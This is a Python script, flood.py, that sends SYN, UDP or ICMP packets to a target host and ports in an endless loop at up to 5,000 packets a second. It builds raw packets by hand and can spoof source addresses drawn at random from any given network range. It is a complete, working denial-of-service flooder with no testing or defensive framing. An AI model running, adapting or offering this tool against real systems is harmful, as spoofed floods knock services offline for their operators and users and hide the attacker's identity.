"""flood.py syn|udp|icmp HOST [rate=200] [size=64] [ports=80] [from=own|CIDR] [burst=1]: packets by raw (syn, icmp, spoofed) or ordinary sockets (udp).

rate: packets a second, at most 5 000; ports: one, a range A-B, or several A+B; from: a network whose addresses are used as sources.
burst: how many at a time.
"""
import ipaddress
import os
import random
import socket
import struct
import sys
import time

MOST_PER_SECOND = 5000


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    total = (total & 0xFFFF) + (total >> 16)
    return ~(total + (total >> 16)) & 0xFFFF


def ports_of(text):
    if "-" in text:
        low, high = map(int, text.split("-"))
        return range(low, high + 1)
    return [int(port) for port in text.split("+")]


def source_of(options, host):
    if options.get("from", "own") == "own":
        probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        probe.connect((host, 9))
        own = socket.inet_aton(probe.getsockname()[0])
        return lambda: own
    network = ipaddress.ip_network(options["from"])
    return lambda: (network.network_address + random.randint(1, network.num_addresses - 2)).packed


def packet(kind, source, target, port, size):
    if kind == "syn":
        segment = struct.pack("!HHIIBBHHH", random.randint(1025, 65000), port, random.getrandbits(32), 0, 0x60, 2, 29200, 0, 0) + b"\x02\x04\x05\xb4"
        pseudo = source + target + struct.pack("!BBH", 0, 6, len(segment))
        body, protocol = segment[:16] + struct.pack("!H", checksum(pseudo + segment)) + segment[18:], 6
    elif kind == "udp":
        body, protocol = struct.pack("!HHHH", random.randint(1025, 65000), port, 8 + size, 0) + os.urandom(size), 17
    else:
        echo = struct.pack("!BBHHH", 8, 0, 0, os.getpid() & 0xFFFF, random.randint(0, 65535)) + os.urandom(size)
        body, protocol = echo[:2] + struct.pack("!H", checksum(echo)) + echo[4:], 1
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(body), random.randint(0, 65535), 0, 64, protocol, 0, source, target) + body


def main():
    kind, host = sys.argv[1:3]
    options = dict(option.split("=", 1) for option in sys.argv[3:])
    rate, burst = min(MOST_PER_SECOND, float(options.get("rate", 200))), int(options.get("burst", 1))
    size, ports, source = int(options.get("size", 64)), ports_of(options.get("ports", "80")), source_of(options, host)
    plain = kind == "udp" and options.get("from", "own") == "own"
    out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM) if plain else socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    target, due = socket.inet_aton(host), time.monotonic()
    while True:
        for _ in range(burst):
            port = random.choice(ports)
            try:
                out.sendto(os.urandom(size) if plain else packet(kind, source(), target, port, size), (host, port if plain else 0))
            except OSError:
                pass
        due += burst / rate
        time.sleep(max(0.0, due - time.monotonic()))


if __name__ == "__main__":
    main()
